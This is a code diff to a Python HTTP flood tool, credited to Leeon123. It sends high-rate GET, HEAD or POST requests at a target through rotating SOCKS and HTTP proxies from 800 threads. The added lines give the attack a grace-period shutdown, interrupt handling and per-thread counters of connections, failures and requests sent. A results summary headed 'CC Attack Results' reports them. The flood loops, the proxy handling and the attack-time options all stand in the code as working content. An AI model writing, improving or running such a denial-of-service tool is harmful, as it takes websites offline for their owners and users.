@@ -14,6 +14,8 @@ import sys
 import ssl
 import datetime
 import os
+from histogram import Histogram
+from stats import PerThread
 
 
 
@@ -91,28 +93,45 @@ out_file = "proxy.txt"
 thread_num = 800
 data = ""
 cookies = ""
+grace = 5
 ###############################
 strings = "asdfghjklqwertyuiopZXCVBNMQWERTYUIOPASDFGHJKLzxcvbnm1234567890&"
 ###################################################
 Intn = random.randint
 Choice = random.choice
 ###################################################
+stop = threading.Event()#set when the attack time is up, threads finish what they are sending and quit
+
+class Counters:#one per thread, so threads count without locking
+	def __init__(self):
+		self.connections = 0
+		self.failed = 0
+		self.sent = 0
+		self.connect_time = Histogram()
+
+counters = PerThread(Counters)
+
 def build_threads(mode,thread_num,event,proxy_type):
+	threads = []
 	if mode == "post":
 		for _ in range(thread_num):
 			th = threading.Thread(target = post,args=(event,proxy_type,))
 			th.daemon = True
 			th.start()
+			threads.append(th)
 	elif mode == "cc":
 		for _ in range(thread_num):
 			th = threading.Thread(target = cc,args=(event,proxy_type,))
 			th.daemon = True
 			th.start()
+			threads.append(th)
 	elif mode == "head":
 		for _ in range(thread_num):
 			th = threading.Thread(target = head,args=(event,proxy_type,))
 			th.daemon = True
 			th.start()
+			threads.append(th)
+	return threads
 			
 
 def getuseragent():
@@ -236,7 +255,8 @@ def cc(event,proxy_type):
 	if "?" in path:
 		add = "&"
 	event.wait()
-	while True:
+	count = counters.get()
+	while not stop.is_set():
 		try:
 			s = socks.socksocket()
 			if proxy_type == 4:
@@ -248,23 +268,30 @@ def cc(event,proxy_type):
 			if brute:
 				s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
 			s.settimeout(3)
+			start = time.perf_counter()
 			s.connect((str(target), int(port)))
 			if protocol == "https":
 				ctx = ssl.SSLContext()
 				s = ctx.wrap_socket(s,server_hostname=target)
+			count.connect_time.record(time.perf_counter() - start)
+			count.connections += 1
 			try:
 				for _ in range(100):
+					if stop.is_set():
+						break
 					get_host = "GET " + path + add + randomurl() + " HTTP/1.1\r\nHost: " + target + "\r\n"
 					request = get_host + header
 					sent = s.send(str.encode(request))
 					if not sent:
 						proxy = Choice(proxies).strip().split(":")
 						break
+					count.sent += 1
 				#s.setsockopt(socket.SO_LINGER,0)
 				s.close()
 			except:
 				s.close()
 		except:
+			count.failed += 1
 			s.close()
 
 def head(event,proxy_type):#HEAD MODE
@@ -274,7 +301,8 @@ def head(event,proxy_type):#HEAD MODE
 	if "?" in path:
 		add = "&"
 	event.wait()
-	while True:
+	count = counters.get()
+	while not stop.is_set():
 		try:
 			s = socks.socksocket()
 			if proxy_type == 4:
@@ -285,29 +313,37 @@ def head(event,proxy_type):#HEAD MODE
 				s.set_proxy(socks.HTTP, str(proxy[0]), int(proxy[1]))
 			if brute:
 				s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+			start = time.perf_counter()
 			s.connect((str(target), int(port)))
 			if protocol == "https":
 				ctx = ssl.SSLContext()
 				s = ctx.wrap_socket(s,server_hostname=target)
+			count.connect_time.record(time.perf_counter() - start)
+			count.connections += 1
 			try:
 				for _ in range(100):
+					if stop.is_set():
+						break
 					head_host = "HEAD " + path + add + randomurl() + " HTTP/1.1\r\nHost: " + target + "\r\n"
 					request = head_host + header
 					sent = s.send(str.encode(request))
 					if not sent:
 						proxy = Choice(proxies).strip().split(":")
 						break#   This part will jump to dirty fix
+					count.sent += 1
 				s.close()
 			except:
 				s.close()
 		except:#dirty fix
+			count.failed += 1
 			s.close()
 
 def post(event,proxy_type):
 	request = GenReqHeader("post")
 	proxy = Choice(proxies).strip().split(":")
 	event.wait()
-	while True:
+	count = counters.get()
+	while not stop.is_set():
 		try:
 			s = socks.socksocket()
 			if proxy_type == 4:
@@ -318,20 +354,27 @@ def post(event,proxy_type):
 				s.set_proxy(socks.HTTP, str(proxy[0]), int(proxy[1]))
 			if brute:
 				s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+			start = time.perf_counter()
 			s.connect((str(target), int(port)))
 			if protocol == "https":
 				ctx = ssl.SSLContext()
 				s = ctx.wrap_socket(s,server_hostname=target)
+			count.connect_time.record(time.perf_counter() - start)
+			count.connections += 1
 			try:
 				for _ in range(100):
+					if stop.is_set():
+						break
 					sent = s.send(str.encode(request))
 					if not sent:
 						proxy = Choice(proxies).strip().split(":")
 						break
+					count.sent += 1
 				s.close()
 			except:
 				s.close()
 		except:
+			count.failed += 1
 			s.close()
 ''' idk why it's not working, so i temporarily removed it
 def slow_atk_conn(proxy_type,rlock):
@@ -588,11 +631,29 @@ def PrintHelp():
    -b        | enable/disable brute mode
              | Enable=1 Disable=0  (default:0)
    -s        | set attack time(default:60)
+   -g        | set seconds threads get to finish sending
+             | once the attack time is up (default:5)
    -down     | download proxies
    -check    | check proxies
 =====================================================''')
 
 
+def PrintStats(elapsed,reason,busy):
+	total = Counters()
+	for count in counters.values():
+		total.connections += count.connections
+		total.failed += count.failed
+		total.sent += count.sent
+		total.connect_time.merge(count.connect_time)
+	print("\r\n----- CC Attack Results -----")
+	print("> Mode: "+mode+"  Target: "+protocol+"://"+target+":"+str(port)+path)
+	print("> Threads: %d  Duration: %.2fs (%s)" %(thread_num,elapsed,reason))
+	if busy:
+		print("> %d threads were still connecting or sending after the %gs grace period; what they finished is counted, not what was in progress" %(busy,grace))
+	print("> Connections: %d opened, %d failed" %(total.connections,total.failed))
+	print("> Requests sent: %d (%.2f per second)" %(total.sent,total.sent/elapsed if elapsed else 0))
+	print("> Connect time (through proxy): "+total.connect_time.summary())
+
 def main():
 	global proxy_ver
 	global data
@@ -604,6 +665,7 @@ def main():
 	global mode
 	global target
 	global proxies
+	global grace
 	target = ""
 	check_proxies = False
 	download_socks = False
@@ -663,6 +725,12 @@ def main():
 			except:
 				print("> -s must be integer")
 				return
+		if args == "-g":
+			try:
+				grace = float(sys.argv[n+1])
+			except:
+				print("> -g must be a number")
+				return
 
 	if download_socks:
 		DownloadProxies(proxy_ver)
@@ -696,12 +764,23 @@ def main():
 	else:'''
 	event = threading.Event()
 	print("> Building threads...")
-	build_threads(mode,thread_num,event,proxy_type)
+	threads = build_threads(mode,thread_num,event,proxy_type)
 	event.clear()
 	#input("Press Enter to continue.")
 	event.set()
-	print("> Flooding...")
-	time.sleep(period)
+	start = time.time()
+	print("> Flooding... (Ctrl+C to stop early)")
+	try:
+		stop.wait(period)
+		reason = "time is up"
+	except KeyboardInterrupt:
+		reason = "interrupted"
+	stop.set()
+	# Threads finish the send they are in, or give up connecting; daemon threads still busy after the grace period are left behind
+	end = time.time() + grace
+	for th in threads:
+		th.join(max(0, end - time.time()))
+	PrintStats(time.time() - start,reason,sum(th.is_alive() for th in threads))
 
 if __name__ == "__main__":
 	main()#Coded by Leeon123